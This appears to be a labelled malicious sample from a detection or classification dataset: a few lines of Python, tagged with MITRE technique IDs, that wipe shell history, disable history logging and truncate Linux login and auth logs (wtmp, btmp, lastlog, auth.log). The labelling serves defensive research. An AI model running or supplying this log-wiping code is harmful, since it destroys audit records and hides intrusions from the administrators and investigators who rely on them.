# label: malicious family=evasion techniques=T1059.004,T1070.002,T1070.003,T1562.003 lines=3-6
import os
os.system("history -c; rm -f ~/.bash_history; ln -sf /dev/null ~/.bash_history")
os.system("unset HISTFILE; export HISTSIZE=0")
for f in ("/var/log/wtmp", "/var/log/btmp", "/var/log/lastlog", "/var/log/auth.log"):
    open(f, "w").close()
